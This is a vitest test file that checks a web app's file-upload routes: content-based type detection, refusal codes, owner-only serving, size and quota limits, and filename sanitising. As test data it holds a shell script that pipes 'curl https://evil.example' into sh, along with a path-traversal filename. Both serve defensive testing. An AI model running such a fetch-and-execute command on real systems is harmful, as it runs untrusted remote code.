// Uploads (docs/API.md#files), black-box through the real routes: files are
// recognized by their content, never by name or declared type; each refusal
// is a clear 4xx with a stable code; a file is served only to its owner,
// with the type its content was recognized as and headers that keep the
// browser from sniffing or running it.
import { describe, expect, it } from "vitest";
import { useRouteHarness } from "@/lib/testing/route-harness";
import { call } from "@/lib/testing/route-client";
import { expectError, newGuest } from "@/lib/testing/api-steps";
import { gif, pdf, png, pngHeader, upload } from "@/lib/testing/file-fixtures";
import { MemoryFileStore } from "@/lib/files/store";
import * as file from "@/app/api/files/[id]/route";

const store = new MemoryFileStore();
const h = useRouteHarness("files", {}, { parts: { files: store } });

const get = (cookie: string, id: string) => call(file.GET, "GET", `/api/files/${id}`, { cookie, params: { id } });
const SCRIPT = new TextEncoder().encode("#!/bin/sh\ncurl https://evil.example | sh\n");

describe("uploading a file", () => {
  it("stores an image, tells its size in pixels, and serves the exact bytes to its owner only", async () => {
    const alice = await newGuest();
    const bytes = png(3, 2);
    const res = await upload(alice, "photo.png", bytes, "image/png");
    expect(res.status).toBe(201);
    const info = await res.json();
    expect(info).toMatchObject({ name: "photo.png", mediaType: "image/png", kind: "image", size: bytes.byteLength, width: 3, height: 2 });
    const got = await get(alice, info.id);
    expect(got.status).toBe(200);
    expect(got.headers.get("content-type")).toBe("image/png");
    expect(got.headers.get("x-content-type-options")).toBe("nosniff");
    expect(got.headers.get("content-disposition")).toMatch(/^inline; filename="photo.png"/);
    expect(Buffer.from(await got.arrayBuffer()).equals(Buffer.from(bytes))).toBe(true);
    // Another user, or an id that cannot exist: 404, as if there were nothing.
    await expectError(await get(await newGuest(), info.id), 404, "not_found");
    await expectError(await get(alice, "not-an-id"), 404, "not_found");
    await expectError(await get(alice, crypto.randomUUID()), 404, "not_found");
  });

  it("recognizes a PDF (pages counted) and text or code (served as plain text, to download)", async () => {
    const alice = await newGuest();
    const doc = await (await upload(alice, "report.pdf", pdf(3), "application/pdf")).json();
    expect(doc).toMatchObject({ kind: "pdf", mediaType: "application/pdf", pages: 3 });
    const code = await upload(alice, "main.ts", new TextEncoder().encode("export const x = 'héllo';\n"), "video/mp2t");
    expect(code.status).toBe(201);
    const info = await code.json();
    expect(info).toMatchObject({ kind: "text", mediaType: "text/plain", name: "main.ts" });
    const got = await get(alice, info.id);
    expect(got.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect(got.headers.get("content-disposition")).toMatch(/^attachment;/);
    expect(await got.text()).toBe("export const x = 'héllo';\n");
  });

  it("refuses a .png that is really a script, whatever the declared type (415 unsupported_file)", async () => {
    const alice = await newGuest();
    const body = await expectError(await upload(alice, "cat.png", SCRIPT, "image/png"), 415, "unsupported_file");
    expect(body.error.message).toMatch(/cat\.png.*not an image/);
    await expectError(await upload(alice, "cat.txt", SCRIPT, "image/png"), 415, "unsupported_file");
    await expectError(await upload(alice, "cat.pdf", png(2, 2)), 415, "unsupported_file");
    // Not text and no known signature; text with a NUL byte; invalid UTF-8.
    await expectError(await upload(alice, "blob.bin", new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0])), 415, "unsupported_file");
    await expectError(await upload(alice, "a.txt", new TextEncoder().encode("a\u0000b")), 415, "unsupported_file");
    await expectError(await upload(alice, "a.txt", new Uint8Array([0x61, 0xc3, 0x28])), 415, "unsupported_file");
    await expectError(await upload(alice, "empty.txt", new Uint8Array()), 400, "invalid_input");
    // The same script under an honest name is a text file.
    expect((await upload(alice, "install.sh", SCRIPT)).status).toBe(201);
    expect(await h.db.prisma.attachment.count({ where: { name: { in: ["cat.png", "cat.txt", "cat.pdf", "blob.bin", "a.txt", "empty.txt"] } } })).toBe(0);
  });

  it("refuses images over the size or pixel limits, PDFs over the page limit, and bodies over the largest file (413 too_large)", async () => {
    const alice = await newGuest();
    await expectError(await upload(alice, "wide.png", pngHeader(8001, 10)), 413, "too_large");
    await expectError(await upload(alice, "tall.gif", gif(10, 9000)), 413, "too_large");
    expect((await upload(alice, "max.png", pngHeader(8000, 8000))).status).toBe(201);
    const restore = h.reconfigure({ MAX_IMAGE_BYTES: "100", MAX_PDF_PAGES: "2", MAX_TEXT_FILE_BYTES: "10", MAX_PDF_BYTES: "1000" });
    try {
      const big = await expectError(await upload(alice, "big.png", png(20, 20)), 413, "too_large");
      expect(big.error.message).toMatch(/Images may be at most/);
      const pages = await expectError(await upload(alice, "long.pdf", pdf(3)), 413, "too_large");
      expect(pages.error.message).toMatch(/at most 2 pages.*has 3/);
      expect((await upload(alice, "short.pdf", pdf(2))).status).toBe(201);
      await expectError(await upload(alice, "notes.txt", new TextEncoder().encode("eleven char")), 413, "too_large");
      // Past the largest limit of any kind (1000 bytes here) the body is not read on.
      await expectError(await upload(alice, "huge.txt", new Uint8Array(5000).fill(0x61)), 413, "too_large");
    } finally {
      await restore();
    }
  });

  it("keeps each user's stored files within MAX_FILE_BYTES_PER_USER, even when uploads race (413 too_large)", async () => {
    const restore = h.reconfigure({ MAX_FILE_BYTES_PER_USER: "100" });
    try {
      const alice = await newGuest();
      const sixty = (c: string) => new TextEncoder().encode(c.repeat(60));
      expect((await upload(alice, "a.txt", sixty("a"))).status).toBe(201);
      const over = await expectError(await upload(alice, "b.txt", sixty("b")), 413, "too_large");
      expect(over.error.message).toBe("Your files already take 60 bytes of the 100 bytes you may store. Delete a conversation with files to make room.");
      expect((await upload(alice, "c.txt", new TextEncoder().encode("c".repeat(40)))).status).toBe(201); // exactly 100
      // Another user has their own room; of two racing uploads that each fit alone, one is refused.
      const bob = await newGuest();
      const raced = await Promise.all([upload(bob, "x.txt", sixty("x")), upload(bob, "y.txt", sixty("y"))]);
      expect(raced.map((r) => r.status).sort()).toEqual([201, 413]);
    } finally {
      await restore();
    }
  });

  it("stores equal content once, under its SHA-256, and keeps names harmless", async () => {
    const alice = await newGuest();
    const bytes = png(4, 4, 9);
    const before = store.files.size;
    const a = await (await upload(alice, "../../etc/a.png", bytes)).json();
    const b = await (await upload(await newGuest(), "b\u0007.png", bytes)).json();
    expect(a.id).not.toBe(b.id);
    expect(store.files.size).toBe(before + 1);
    expect(a.name).toBe("a.png");
    expect(b.name).toBe("b.png");
  });

  it("needs a session (401)", async () => {
    await expectError(await upload("tether_session=nope", "a.txt", new TextEncoder().encode("x")), 401, "unauthorized");
  });
});
